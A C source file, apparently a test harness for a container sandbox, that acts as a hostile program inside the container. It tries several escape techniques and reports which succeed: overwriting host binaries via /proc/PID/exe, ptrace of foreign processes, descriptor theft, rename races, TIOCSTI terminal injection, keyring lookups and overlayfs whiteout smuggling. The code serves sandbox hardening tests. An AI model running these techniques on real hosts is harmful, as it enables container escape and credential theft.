// What a hostile program inside a container does: `attack NAME [ARGUMENT…]`. Each attack prints a line for whatever it
// achieves, in capitals, and what it saw on the way, in lower case.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int text(const char *path, char *into, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = read(fd, into, size - 1);
  close(fd);
  if (n < 0) return -1;
  into[n] = 0;
  return 0;
}

// The container's own program: writing it proves nothing.
static int harmless(const struct stat *st) {
  struct stat own;
  const char *programs[] = {"/bin/busybox", "/attack"};
  for (int i = 0; i < 2; i++)
    if (stat(programs[i], &own) == 0 && own.st_dev == st->st_dev && own.st_ino == st->st_ino) return 1;
  return 0;
}

// Opens the program of a foreign process, for writing if that works, else to try again when the process is gone.
static void take_program(int pid) {
  char path[64];
  struct stat st;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  if (fstat(fd, &st) == 0 && !harmless(&st)) {
    printf("reached program\n");
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200; i++) {
      int writable = open(again, O_WRONLY | O_CLOEXEC);
      if (writable >= 0 && write(writable, "owned", 5) == 5) printf("OVERWRITTEN\n");
      if (writable >= 0) close(writable);
      if (writable >= 0 || errno != ETXTBSY) break;
      usleep(100);
    }
    if (chmod(again, 0777) == 0) printf("CHANGED MODE\n");
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0) printf("MADE WRITABLE\n");
    if (syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE) >= 0) printf("CLONED\n");
  }
  close(fd);
}

static int is_called(int pid, const char *name) {
  char path[64], comm[64];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  if (text(path, comm, sizeof comm) != 0) return 0;
  comm[strcspn(comm, "\n")] = 0;
  return strcmp(comm, name) == 0;
}

// Opens what a foreign process has open; not what the container's own program that it becomes has, and not the standard
// streams of PID 1, which are the container's.
static void take_descriptors(int pid, const char *name) {
  char path[96], target[PATH_MAX];
  for (int n = pid == 1 ? 3 : 0; n < 12; n++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0) continue;
    target[length] = 0;
    if (is_called(pid, name)) printf("DESCRIPTOR %d %s\n", n, target);
  }
}

static void trace(int pid) {
  int status;
  char path[64], about[8192];
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) waitpid(pid, &status, 0);
  int known = text(path, about, sizeof about) == 0;
  const char *filter = known ? strstr(about, "Seccomp:\t") : 0;
  if (filter && filter[9] == '0') printf("TRACED UNFILTERED\n");
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

// Goes for every process whose name is NAME until /tmp/stop exists.
static int hunt(const char *name) {
  long seen = 0;
  while (access("/tmp/stop", F_OK) != 0) {
    DIR *proc = opendir("/proc");
    if (!proc) return 1;
    struct dirent *entry;
    while ((entry = readdir(proc))) {
      int pid = atoi(entry->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      if (!is_called(pid, name)) continue;
      seen++;
      trace(pid);
      take_program(pid);
      // Any other name is a program of the container, confined already: what it has open is its own.
      if (!strcmp(name, "lrun")) take_descriptors(pid, name);
    }
    closedir(proc);
    while (waitpid(-1, 0, WNOHANG) > 0) {}
  }
  printf("saw %ld\n", seen);
  return 0;
}

// Exchanges two names for ever.
static int swap(const char *a, const char *b) {
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) return perror("attack: swap"), 1;
}

// The descriptors that this program was started with.
static int descriptors(void) {
  for (int n = 0; n < 1024; n++)
    if (fcntl(n, F_GETFD) >= 0) printf("%d ", n);
  printf("\n");
  return 0;
}

// Opens everything below a folder for writing, and prints what opens. Never follows a link, never writes.
static void writable(const char *folder) {
  DIR *directory = opendir(folder);
  if (!directory) return;
  struct dirent *entry;
  while ((entry = readdir(directory))) {
    char path[PATH_MAX];
    struct stat st;
    const char *name = entry->d_name;
    if (!strcmp(name, ".") || !strcmp(name, "..")) continue;
    // Of the processes, this one stands for all.
    if (!strcmp(folder, "/proc") && (atoi(name) > 0 || !strcmp(name, "thread-self"))) continue;
    if (!strcmp(name, "task") && !strncmp(folder, "/proc/self", 10)) continue;
    snprintf(path, sizeof path, "%s/%s", folder, name);
    if (!strcmp(path, "/proc/self/fd") || !strcmp(path, "/proc/self/cwd") || !strcmp(path, "/proc/self/root")) continue;
    if (!strcmp(path, "/proc/self")) {
      writable(path);
      continue;
    }
    if (lstat(path, &st) != 0 || S_ISLNK(st.st_mode)) continue;
    if (S_ISDIR(st.st_mode)) {
      int fd = open(path, O_RDWR | O_TMPFILE | O_CLOEXEC, 0600);
      if (fd >= 0) printf("%s (new files)\n", path), close(fd);
      writable(path);
      continue;
    }
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOFOLLOW | O_NOCTTY | O_CLOEXEC);
    if (fd >= 0) printf("%s%s\n", path, S_ISCHR(st.st_mode) ? " (device)" : ""), close(fd);
  }
  closedir(directory);
}

static long native(const unsigned long *call) {
  long result = syscall(call[0], call[1], call[2], call[3], call[4], call[5], call[6]);
  return result == -1 ? -errno : result;
}

#ifdef __x86_64__
static long i386(const unsigned long *call) {
  long result;
  __asm__ volatile("push %%rbp; mov %7, %%rbp; int $0x80; pop %%rbp" : "=a"(result)
                   : "a"(call[0]), "b"(call[1]), "c"(call[2]), "d"(call[3]), "S"(call[4]), "D"(call[5]), "r"(call[6])
                   : "memory", "r8", "r9", "r10", "r11");
  return (int)result;
}
#endif

// Makes each call of standard input, `native NUMBER ARGUMENT…` or `i386 NUMBER ARGUMENT…`, in a process of its own, and
// prints its result: a value, an error number below zero, or how the process ended.
static int probe(void) {
  char line[512];
  while (fgets(line, sizeof line, stdin)) {
    unsigned long call[7] = {0};
    char *at = line + strcspn(line, " ");
    int foreign = !strncmp(line, "i386", 4);
    for (int i = 0; i < 7; i++) call[i] = strtoul(at, &at, 0);
    int pipe_fds[2], status;
    long result;
    if (pipe(pipe_fds) != 0) return 1;
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
      alarm(2);
#ifdef __x86_64__
      result = foreign ? i386(call) : native(call);
#else
      result = foreign ? -ENOSYS : native(call);
#endif
      if (write(pipe_fds[1], &result, sizeof result) < 0) _exit(1);
      _exit(0);
    }
    close(pipe_fds[1]);
    if (read(pipe_fds[0], &result, sizeof result) == sizeof result) printf("%ld\n", result);
    waitpid(child, &status, 0);
    close(pipe_fds[0]);
    if (WIFSIGNALED(status)) printf("signal %d\n", WTERMSIG(status));
    else if (WEXITSTATUS(status)) printf("exit\n");
  }
  return 0;
}

// Types on every terminal within reach.
static int inject(void) {
  int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC), open("/dev/console", O_RDWR | O_CLOEXEC)};
  unsigned long uppers[] = {0, 1UL << 32, 0xffffffffUL << 32};
  for (int i = 0; i < 5; i++)
    for (int u = 0; u < 3; u++) {
      if (syscall(SYS_ioctl, fds[i], uppers[u] | 0x5412, "X") == 0) printf("INJECTED\n");
      char paste[] = {3};
      if (syscall(SYS_ioctl, fds[i], uppers[u] | 0x541c, paste) == 0) printf("PASTED\n");
    }
  printf("tried\n");
  return 0;
}

// Looks for the caller's key: by its name in every keyring that a process has, and by its number.
static int keys(const char *name, const char *number) {
  char value[64];
  long serial = atol(number);
  for (int ring = -1; ring >= -6; ring--) {
    long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, ring, "user", name, 0);
    if (key > 0) printf("FOUND in %d\n", ring);
  }
  if (syscall(SYS_request_key, "user", name, 0, 0) > 0) printf("REQUESTED\n");
  if (syscall(SYS_keyctl, 11 /* KEYCTL_READ */, serial, value, sizeof value) >= 0) printf("READ\n");
  if (syscall(SYS_keyctl, 8 /* KEYCTL_LINK */, serial, -3) == 0) printf("LINKED\n");
  printf("keyctl %s\n", syscall(SYS_keyctl, 0, -3, 1) < 0 && errno == EPERM ? "refused" : "answers");
  return 0;
}

// Tries to leave what overlayfs obeys in a directory.
static int smuggle(const char *folder) {
  const char *names[] = {"opaque", "redirect", "metacopy", "whiteouts", "whiteout", "overlay.opaque", "overlay.overlay.opaque"};
  const char *prefixes[] = {"user.overlay.", "trusted.overlay.", "user.overlay.overlay."};
  char path[PATH_MAX], name[128];
  for (int p = 0; p < 3; p++)
    for (int n = 0; n < 7; n++) {
      snprintf(name, sizeof name, "%s%s", prefixes[p], names[n]);
      setxattr(folder, name, "y", 1, 0);
    }
  snprintf(path, sizeof path, "%s/passwd2", folder);
  if (mknod(path, S_IFCHR | 0666, 0) == 0) printf("WHITEOUT\n");
  snprintf(name, sizeof name, "%s/passwd", folder);
  close(open(path, O_CREAT | O_WRONLY, 0600));
  if (renameat2(AT_FDCWD, path, AT_FDCWD, "/tmp/moved", RENAME_WHITEOUT) == 0) printf("moved\n");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, 0, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "hunt") == 0) return hunt(argv[2]);
  if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3]);
  if (argc == 2 && strcmp(argv[1], "descriptors") == 0) return descriptors();
  if (argc == 3 && strcmp(argv[1], "writable") == 0) return writable(argv[2]), 0;
  if (argc == 2 && strcmp(argv[1], "probe") == 0) return probe();
  if (argc == 2 && strcmp(argv[1], "inject") == 0) return inject();
  if (argc == 4 && strcmp(argv[1], "keys") == 0) return keys(argv[2], argv[3]);
  if (argc == 3 && strcmp(argv[1], "smuggle") == 0) return smuggle(argv[2]);
  fprintf(stderr, "attack: unknown\n");
  return 2;
}
